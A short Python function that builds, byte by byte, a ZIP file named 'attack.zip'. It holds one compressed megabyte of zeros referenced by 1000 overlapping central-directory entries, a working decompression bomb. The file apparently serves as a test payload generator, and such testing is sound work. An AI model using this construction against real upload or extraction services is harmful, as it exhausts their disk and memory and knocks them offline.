import struct
import zlib


def build():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(1 << 20)) + packer.flush()
    crc = zlib.crc32(bytes(1 << 20))
    name = b"a0000"
    sizes = (crc, len(packed), 1 << 20)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes, len(name), 0)
    body = local + name + packed
    directory = b"".join(
        struct.pack(
            "<4s4B4HL2L5H2L",
            *(b"PK\x01\x02", 20, 3, 20, 0, 0, 8, 0, 0, *sizes, len(name), 0, 0, 0, 0),
            *(0o100644 << 16, 0),
        )
        + b"a%04d" % number
        for number in range(1000)
    )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1000, 1000, len(directory), len(body), 0)
    return "attack.zip", body + directory + end
